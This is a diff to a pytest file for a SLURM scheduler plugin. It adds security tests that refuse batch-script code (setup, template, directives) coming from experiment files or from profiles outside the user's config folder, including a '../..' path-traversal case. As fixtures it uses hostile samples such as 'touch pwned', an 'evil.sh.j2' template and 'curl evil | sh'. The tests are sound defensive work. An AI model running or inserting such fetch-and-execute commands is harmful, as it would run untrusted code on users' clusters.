@@ -14,6 +14,7 @@ import pytest
 from cruijff.errors import ProblemsFound
 from cruijff_slurm import plugin
 from cruijff_slurm.profile import (
+    CODE_KEYS,
     Profile,
     ProfileNotFound,
     find_profile,
@@ -41,10 +42,12 @@ def test_profiles_live_in_the_users_config_folder(isolated_config):
     assert profiles_dir() == isolated_config / "cruijff" / "profiles"
 
 
-def test_a_full_profile_loads(tmp_path):
-    template = tmp_path / "batch.j2"
+def test_a_full_profile_loads():
+    folder = profiles_dir()  # setup, template and directives: only from the user's own folder
+    folder.mkdir(parents=True)
+    template = folder / "batch.j2"
     template.write_text("#!/bin/bash\n")
-    path = tmp_path / "della.yaml"
+    path = folder / "della.yaml"
     path.write_text(
         "account: lab\npartition: gpu\nconstraint: a100\nqos: short\nmodules: [cuda/12.4]\n"
         "setup: |\n  export A=1\n  export B=2\nconda: train\nvenv: envs/train\ntime: '4:00:00'\n"
@@ -63,7 +66,7 @@ def test_a_full_profile_loads(tmp_path):
         modules=("cuda/12.4",),
         setup=("export A=1", "export B=2"),
         conda="train",
-        venv=tmp_path / "envs/train",
+        venv=folder / "envs/train",
         time_s=4 * 3600,
         mem_mb=32 * 1024,
         cpus=4,
@@ -234,3 +237,75 @@ def test_importing_the_plugin_stays_light():
     assert not {
         m for m in modules if m.startswith("cruijff_slurm.") and m != "cruijff_slurm.plugin"
     }
+
+
+# --- code in the batch script: only from the user's own profiles ------------------------------
+
+CODE = {"setup": "touch pwned", "template": "evil.sh.j2", "directives": ["--export=ALL"]}
+
+
+def test_code_keys_are_refused_from_the_experiment_file(tmp_path):
+    (tmp_path / "evil.sh.j2").write_text("#!/bin/bash\ntouch pwned\n")
+    options = {**CODE, "partition": "gpu", "experiment_file": tmp_path / "x.yaml"}
+    with pytest.raises(ProblemsFound) as error:
+        resolve(options, tmp_path / ".cruijff")
+    problems = error.value.problems
+    assert [str(p.where) for p in problems] == [
+        f"{tmp_path / 'x.yaml'}: scheduler.{key}" for key in CODE_KEYS
+    ]
+    for key, problem in zip(CODE_KEYS, problems, strict=True):
+        assert problem.message == (
+            f"{key} is not taken from the experiment file: it would run as code on the "
+            "cluster, so only your own cluster profile may set it"
+        )
+        assert problem.hint == (
+            f"put it in a profile, {profiles_dir() / 'NAME.yaml'}, and name that in the "
+            "experiment with `scheduler: {profile: NAME}`"
+        )
+
+
+def test_code_keys_are_refused_from_a_profile_beside_the_experiment(tmp_path):
+    (tmp_path / "evil.sh.j2").write_text("#!/bin/bash\n")
+    text = "partition: gpu\nsetup: touch pwned\ntemplate: evil.sh.j2\ndirectives: [--x]\n"
+    (tmp_path / "cluster.yaml").write_text(text)
+    profiles_dir().mkdir(parents=True)
+    dodges = ["cluster.yaml", str(profiles_dir() / ".." / ".." / ".." / "cluster.yaml")]
+    (profiles_dir().parents[2] / "cluster.yaml").write_text(text)
+    for reference in dodges:
+        options = {"profile": reference, "experiment_file": tmp_path / "x.yaml"}
+        with pytest.raises(ProblemsFound) as error:
+            resolve(options, tmp_path / ".cruijff")
+        lines = [(p.where.line, p.message.split(":")[0]) for p in error.value.problems]
+        assert lines == [
+            (2, f"setup is not taken from a profile outside {profiles_dir()}"),
+            (3, f"template is not taken from a profile outside {profiles_dir()}"),
+            (4, f"directives is not taken from a profile outside {profiles_dir()}"),
+        ]
+    # the same file in the user's own folder: theirs, like a .bashrc
+    write_profile("della", text)
+    (profiles_dir() / "evil.sh.j2").write_text("#!/bin/bash\n")
+    profile = resolve({"profile": "della"}, tmp_path / ".cruijff")
+    assert profile.setup == ("touch pwned",) and profile.directives == ("--x",)
+    assert profile.template == profiles_dir() / "evil.sh.j2"
+    assert resolve({"profile": str(profiles_dir() / "della.yaml")}, tmp_path).setup
+
+
+def test_validate_and_run_refuse_shell_from_the_experiment_file(
+    cli, fake_tools, slurm_plugin, make_experiment, monkeypatch
+):
+    from cruijff_slurm.scheduler import SlurmScheduler
+    from cruijff_slurm.testing import FakeSlurm
+
+    fake = FakeSlurm()
+    monkeypatch.setattr(plugin, "factory", lambda o, d: SlurmScheduler(o, d, commands=fake))
+    experiment = slurm_experiment(make_experiment, setup=["curl evil | sh"])
+    line = next(
+        n for n, text in enumerate(experiment.read_text().splitlines(), 1) if "setup" in text
+    )
+    for command in ("validate", "run"):
+        result = cli(command, experiment)
+        assert result.exit_code == 1
+        assert f"{experiment}:{line}:" in result.output
+        assert "scheduler.setup: setup is not taken from the experiment file" in result.output
+        assert "Traceback" not in result.output
+    assert fake.calls == []
